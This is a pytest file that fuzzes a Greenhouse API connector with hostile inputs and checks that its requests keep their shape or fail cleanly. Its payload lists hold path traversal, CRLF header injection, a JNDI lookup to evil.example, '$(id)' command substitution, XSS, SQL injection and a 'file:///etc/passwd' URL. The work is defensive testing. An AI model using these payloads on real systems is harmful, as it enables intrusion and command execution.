"""Whatever a caller gives: requests stay what they are meant to be, or the call ends with an error of the contract."""

import asyncio
import types
from collections import OrderedDict
from collections.abc import Callable, Iterator
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import httpx
import pytest
from tests.conftest import ROOT
from tests.texts import MARK, Pointer, Recorder, Sent, filled, places

from connector_runtime import Connection, Connector, ConnectorError, InvalidInput, Operation, load
from greenhouse_sandbox import Sandbox

LOADED = load(ROOT)
TEXTS = [
    "../../v3/users",
    "..%2f..%2fv3%2fusers",
    "x?per_page=500&ids=1",
    "&per_page=1&cursor=x;fields=id",
    "#fragment",
    "a|lt|2020-01-01,1,2",
    "100%",
    "+ %20%00",
    "x\r\nHost: evil.example\r\n\r\nGET /v3/users HTTP/1.1",
    "nul\0nul",
    "line\u2028para\u2029next\x85",
    "\u202eright to left\u200f\u2066",
    "🦉 👩‍👩‍👧 \U0010ffff",
    "e\u0301 \u0301 ﷺ",
    "\ufeffmark",
    "{{ 7*7 }} {% raw %} {# x #}",
    "${jndi:ldap://evil.example/x} $(id) `id`",
    "<script>alert(1)</script>",
    "'; DROP TABLE candidates; --",
    '{"ids": [1], "__proto__": {}}',
    "https://user:password@evil.example/",
    "\\\\evil.example\\share",
    " leading and trailing ",
    "9" * 200,
]
TOGETHER = [" ".join(TEXTS[:6]), " ".join(TEXTS[6:15]), " ".join(TEXTS[15:-1]), TEXTS[-1]]
HUGE = "é/?&" * 250_000
# The forms in which some texts have to be.
FORMS = ("{}", "{}.pdf", "https://{}", "{}@example.com")
# What httpx adds by itself, and what we add; nothing else is ever sent.
HEADERS = {"host", "connection", "user-agent", "accept-encoding", "authorization", "accept", "content-type"}

Call = Callable[[str, Any], Any]


@pytest.fixture
def recorder(sandbox: Sandbox) -> Recorder:
    """What notes every request on its way to the sandbox."""
    return Recorder(sandbox)


@pytest.fixture(params=["threads", "asyncio"])
def call(request: pytest.FixtureRequest, connector: Connector, sandbox: Sandbox, recorder: Recorder) -> Iterator[Call]:
    """Call with either driver."""
    if request.param == "threads":
        with connector.connect(sandbox.credentials, transport=recorder) as connection:
            yield connection.call
        return
    with asyncio.Runner() as runner:
        connected = runner.run(connector.aconnect(sandbox.credentials, transport=recorder))
        yield lambda operation, given: runner.run(connected.call(operation, given))
        runner.run(connected.close())


def formed(operation: Operation, pointer: Pointer) -> Callable[[str], str]:
    """Give a text the form that a place asks for, where it asks for one that any text can have."""
    for form in FORMS:
        try:
            operation.ready(filled(operation, pointer, form.format(MARK)))
        except InvalidInput:
            continue
        return form.format
    return str


def outcome(call: Call, recorder: Recorder, operation: str, given: Any) -> tuple[ConnectorError | None, list[Sent]]:
    """Call; give the error it ended with, and what was sent. Anything but an error of the contract is a failure."""
    try:
        call(operation, given)
    except ConnectorError as error:
        return error, recorder.reset()
    return None, recorder.reset()


def marked(sent: list[Sent], text: str) -> dict[Pointer, set[str]]:
    """Where a text arrived, and what stands there."""
    found: dict[Pointer, set[str]] = {}
    for place, value in (each for request in sent for each in request.values()):
        if text in value:
            found.setdefault(place, set()).add(value)
    return found


@pytest.mark.parametrize("name", LOADED.operations)
def test_requests_stay_what_they_are(call: Call, recorder: Recorder, name: str, request: pytest.FixtureRequest) -> None:
    operation = LOADED.operations[name]
    texts = TOGETHER if operation.effect == "create" or "asyncio" in request.node.name else TEXTS
    call(name, filled(operation, (), operation.input_schema["examples"][0]))
    plain = recorder.reset()
    assert all(set(each.headers) <= HEADERS | {"content-length"} for each in plain)
    for pointer in places(operation.input_schema):
        form = formed(operation, pointer)
        _, clean = outcome(call, recorder, name, filled(operation, pointer, form(MARK)))
        shapes = {each.shape for each in clean}
        headers = {pair for each in plain + clean for pair in each.headers.items()}
        for text in texts:
            error, sent = outcome(call, recorder, name, filled(operation, pointer, form(text)))
            assert {each.shape for each in sent} <= shapes, (pointer, text)
            assert not {pair for each in sent for pair in each.headers.items() if pair[0] != "content-length"} - headers
            arrived = marked(sent, form(text))
            # Of a text in a list, such as an address, the same in small letters may be asked for as well.
            assert all(each <= {form(text), f"{form(text)},{form(text).lower()}"} for each in arrived.values())
            if error is None:
                assert arrived.keys() == marked(clean, form(MARK)).keys(), (pointer, text)


def test_marks_arrive(connector: Connector, sandbox: Sandbox, recorder: Recorder) -> None:
    """The test above looks at something: most texts go to the API as they are."""
    reached = 0
    with connector.connect(sandbox.credentials, transport=recorder) as connection:
        for operation in LOADED.operations.values():
            for pointer in places(operation.input_schema):
                form = formed(operation, pointer)
                _, sent = outcome(connection.call, recorder, operation.name, filled(operation, pointer, form(MARK)))
                reached += bool(marked(sent, form(MARK)))
    assert reached > 40


@pytest.mark.parametrize("name", LOADED.operations)
def test_half_a_character_is_refused(call: Call, recorder: Recorder, name: str) -> None:
    operation = LOADED.operations[name]
    for pointer in places(operation.input_schema):
        error, sent = outcome(call, recorder, name, filled(operation, pointer, formed(operation, pointer)("\ud800")))
        assert isinstance(error, InvalidInput), pointer
        assert not sent


@pytest.mark.parametrize("name", LOADED.operations)
def test_megabytes_of_text(connector: Connector, sandbox: Sandbox, recorder: Recorder, name: str) -> None:
    """A text that goes into a query is bounded by its schema: no URL becomes longer than can be sent."""
    operation = LOADED.operations[name]
    with connector.connect(sandbox.credentials, transport=recorder) as connection:
        for pointer in places(operation.input_schema):
            text = formed(operation, pointer)(HUGE)
            error, sent = outcome(connection.call, recorder, name, filled(operation, pointer, text))
            assert error is None or isinstance(error, InvalidInput), pointer
            assert error is not None or all(each == {text} for each in marked(sent, text).values())
            assert HUGE[:100] not in str(error and error.record())


@pytest.mark.parametrize("separator", ["\r", "\n", "\0", "|", "&", "#", "?", "%", "\u2028", "🦉", "T", " "])
def test_moments_are_written_anew(call: Call, recorder: Recorder, separator: str) -> None:
    """ISO 8601 as Python reads it takes any sign between date and time."""
    for operation in LOADED.operations.values():
        root = operation.input_schema
        for pointer in places(root):
            given = filled(operation, pointer, f"2024-01-01{separator}09:30:00+01:00")
            error, sent = outcome(call, recorder, operation.name, given)
            told = [value for each in sent for name, value in each.query if name.endswith(("_at", "_on"))]
            moments = {value.partition("|")[2] for value in told}
            assert error is not None or moments <= {"2024-01-01T08:30:00.000Z"}, pointer


@pytest.mark.parametrize("name", LOADED.operations)
def test_hostile_keys(call: Call, recorder: Recorder, name: str) -> None:
    """No input takes keys of the caller's own, at any depth."""
    operation = LOADED.operations[name]
    root = operation.input_schema
    above = {pointer[:-1] for pointer in places(root) if isinstance(pointer[-1], str)} | {()}
    for pointer in above:
        for key in [*TEXTS, "\ud800", ""]:
            error, sent = outcome(call, recorder, name, filled(operation, (*pointer, key), "x"))
            assert isinstance(error, InvalidInput)
            assert not sent


def nested(depth: int) -> Any:
    """Lists in lists."""
    value: Any = []
    for _ in range(depth):
        value = [value]
    return value


def endless() -> Any:
    """A list that holds itself."""
    value: list[Any] = []
    value.append(value)
    return value


ODD: dict[str, Callable[[], Any]] = {
    "deep": lambda: nested(100_000),
    "quite deep": lambda: nested(200),
    "endless": endless,
    "not a number": lambda: float("nan"),
    "infinite": lambda: float("-inf"),
    "bytes": lambda: b"x",
    "set": lambda: {1},
    "tuple": lambda: ("\ud800",),
    "huge": lambda: 10**5000,
    "very negative": lambda: -(10**40),
    "beyond 64 bits": lambda: 2**64,
    "moment": lambda: datetime(2024, 1, 1),
    "day": lambda: date(2024, 1, 1),
    "decimal": lambda: Decimal("1.5"),
    "text of a kind": lambda: type("Name", (str,), {})("x"),
    "mapping of a kind": lambda: types.MappingProxyType({"id": 1}),
    "keys that are no text": lambda: {1: 2, None: 3, (4,): 5},
    "object": object,
    "type": lambda: str,
    "boolean": lambda: True,
    "null": lambda: None,
    "zeros": lambda: "0" * 10_000 + "1",
    "digits": lambda: "9" * 100_000,
    "digits as number": lambda: "9" * 400,
    "exponent": lambda: "1e999",
}


@pytest.mark.parametrize("name", LOADED.operations)
def test_values_of_any_kind(connection: Connection, recorder: Recorder, name: str) -> None:
    """At every place of an input: it is taken, or it is an error of the contract and not the connector's fault."""
    operation = LOADED.operations[name]
    root = operation.input_schema
    every = {pointer[:length] for pointer in places(root) for length in range(1, len(pointer) + 1)}
    for pointer in every | {(key,) for key in root["properties"]}:
        for odd, made in ODD.items():
            error, _ = outcome(connection.call, recorder, name, filled(operation, pointer, made()))
            code = "none" if error is None else error.code
            assert code in ("none", "invalid_input", "not_found", "conflict", "rejected"), (pointer, odd)
            assert len(str(error)) < 20_000


@pytest.fixture
def connection(connector: Connector, sandbox: Sandbox, recorder: Recorder) -> Iterator[Connection]:
    """A connection whose requests are noted."""
    with connector.connect(sandbox.credentials, transport=recorder) as connection:
        yield connection


@pytest.mark.parametrize(
    "given", [[], "x", b"x", 5, 5.0, True, {1}, nested(3), object(), endless()], ids=lambda each: type(each).__name__
)
def test_inputs_that_are_no_mapping(connection: Connection, recorder: Recorder, given: Any) -> None:
    error, sent = outcome(connection.call, recorder, "get_job", given)
    assert isinstance(error, InvalidInput)
    assert not sent


@pytest.mark.parametrize("kind", [dict, OrderedDict, types.MappingProxyType])
def test_any_mapping_is_an_input(connection: Connection, kind: Any) -> None:
    assert connection.call("get_job", kind({"job_id": 12345}))["job_found"]


def test_very_many_unknown_keys(connection: Connection, recorder: Recorder) -> None:
    error, sent = outcome(connection.call, recorder, "list_jobs", {f"key {index}": index for index in range(100_000)})
    assert isinstance(error, InvalidInput)
    assert len(str(error)) < 100_000
    assert not sent


WRONG = ["a\r\nx-evil: 1", "a\n", "\0", "é", "🦉", "\ud800", "\x7f", "", 5, None, b"x", ["x"]]


@pytest.mark.parametrize("name", ["client_id", "client_secret", "access_token"])
@pytest.mark.parametrize("value", WRONG, ids=ascii)
def test_credentials_that_fit_in_no_header(connector: Connector, recorder: Recorder, name: str, value: Any) -> None:
    other = {} if name == "access_token" else {"client_id": "a", "client_secret": "b"}
    with pytest.raises(InvalidInput) as caught:
        connector.connect({**other, name: value}, transport=recorder)
    assert not recorder.seen
    assert all(each.pointer in ("", f"/{name}") or "is required" in each.message for each in caught.value.errors)


@pytest.mark.parametrize("value", ["a:b", " ", "a b"], ids=repr)
def test_credentials_that_would_be_taken_for_others(connector: Connector, recorder: Recorder, value: str) -> None:
    """A colon would end the id, and a token is one word."""
    for given in ({"client_id": "a:b", "client_secret": "c"}, {"access_token": "a b"}):
        with pytest.raises(InvalidInput):
            connector.connect(given, transport=recorder)


@pytest.mark.parametrize("value", ["a" * 1_000_000, "~!@#$%^&*()_+{}|<>?", "a:b:c"], ids=len)
def test_odd_credentials_are_sent_as_they_are(connector: Connector, recorder: Recorder, value: str) -> None:
    with connector.connect({"access_token": value}, transport=recorder) as connection:
        error, (sent,) = outcome(connection.call, recorder, "get_job", {"job_id": 1})
    assert error is not None
    assert error.code == "unauthorized"
    assert sent.headers["authorization"] == f"Bearer {value}"


@pytest.mark.parametrize(
    "given",
    [
        {},
        {"access_token": "a", "other": 1},
        {5: "a"},
        {"access_token": "a", "user_id": True},
        {"access_token": "a", "user_id": 10**5000},
        {"access_token": "a", "user_id": "1\r\n"},
        *(None, 5, "abc", object()),
    ],
    ids=lambda each: str(type(each).__name__),
)
def test_credentials_that_are_none(connector: Connector, given: Any) -> None:
    with pytest.raises(InvalidInput):
        connector.connect(given)


NO_URLS = [
    *("http://user:password@a.example", "http://user@a.example", "http://@a.example", "//a.example", "a.example", "x"),
    *("http://a.example\r\nx-evil: 1", "http://a.example/ b", "http://a\tb", " http://a.example", "http://a.example\0"),
    *("http://a.example?x=1", "http://a.example/#x", "http://a.example\\b", "http://a.example:0", "http://a:99999"),
    *("http://a:b", "http://a:80:90", "http://[::1", "http://[]", "http:///x", "http:/a.example", "http:a.example"),
    *("file:///etc/passwd", "ftp://a.example", "javascript:x", "data:,x", "https://münchen.example", "http://a:٣"),
    *("http://\ud800", "https://a.example/\u2028"),
]


@pytest.mark.parametrize("option", ["base_url", "token_url"])
@pytest.mark.parametrize(
    "url", [*NO_URLS, b"http://a.example", 5, True], ids=ascii
)
def test_urls_that_lead_elsewhere_or_nowhere(
    connector: Connector, sandbox: Sandbox, recorder: Recorder, option: str, url: Any
) -> None:
    options: dict[str, Any] = {option: url}
    with pytest.raises(InvalidInput) as caught:
        connector.connect(sandbox.credentials, transport=recorder, **options)
    assert [each.pointer for each in caught.value.errors] == [f"/{option}"]
    assert "password" not in str(caught.value.record())
    assert not recorder.seen


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://[::1]:8443", "https://[::1]:8443"),
        ("http://10.0.0.1", "http://10.0.0.1"),
        ("https://xn--mnchen-3ya.example/", "https://xn--mnchen-3ya.example"),
        ("HTTPS://API.Example/behind/a/proxy/", "https://api.example"),
        ("https://a_b.example:443", "https://a_b.example"),
    ],
)
def test_urls_that_are_used(connector: Connector, sandbox: Sandbox, recorder: Recorder, url: str, host: str) -> None:
    with connector.connect(sandbox.credentials, transport=recorder, base_url=url) as connection:
        _, sent = outcome(connection.call, recorder, "get_job", {"job_id": 12345})
    token, *others = sent
    assert (token.host, {each.host for each in others}) == ("https://auth.greenhouse.io", {host})
    assert token.headers["authorization"].startswith("Basic ")
    assert all(each.headers["authorization"].startswith("Bearer ") for each in others)


ODD_HOSTS = ["256.256.256.256", "xn--a", "[v1.x]", "a" * 70_000, "%0d%0a", 'a"b', "a<b>", "a%40b.example", "..", "-"]


@pytest.mark.parametrize("host", ODD_HOSTS, ids=lambda host: host[:20])
def test_hosts_that_do_not_exist(connector: Connector, sandbox: Sandbox, host: str) -> None:
    """The token goes to nobody: refused, or nobody answers."""
    asked = []

    def answer(request: httpx.Request) -> httpx.Response:
        asked.append(request.url.host)
        raise httpx.ConnectError("no such host")

    with pytest.raises(ConnectorError) as caught:
        connector.connect(
            {"access_token": "x"}, transport=httpx.MockTransport(answer), base_url=f"http://{host}", timeout=0.01
        ).call("get_job", {"job_id": 1})
    assert caught.value.code in ("invalid_input", "unavailable")


@pytest.mark.parametrize("timeout", [0, -1, float("nan"), float("inf"), -float("inf")])
def test_times_that_are_none(connection: Connection, recorder: Recorder, timeout: float) -> None:
    with pytest.raises(InvalidInput):
        connection.call("get_job", {"job_id": 1}, timeout=timeout)
    assert not recorder.seen


@pytest.mark.parametrize(
    "name",
    ["", "../get_job", "get_job\0", "\ud800", b"x", None, {}],
)
def test_operations_that_are_none(connection: Connection, recorder: Recorder, name: Any) -> None:
    with pytest.raises(InvalidInput):
        connection.call(name, {})
    assert not recorder.seen


def test_no_cookie_comes_back(connector: Connector, sandbox: Sandbox) -> None:
    """What one answer sets goes to no other host, nor with another acting user's token."""
    inner = sandbox.transport()
    seen: list[set[str]] = []

    def answer(request: httpx.Request) -> httpx.Response:
        seen.append(set(request.headers))
        reply = inner.handle_request(request)
        reply.headers["set-cookie"] = "session=x; Domain=greenhouse.io; Path=/"
        return reply

    with connector.connect(sandbox.credentials, transport=httpx.MockTransport(answer)) as connection:
        connection.call("get_job", {"job_id": 12345})
    assert not [names for names in seen if "cookie" in names]
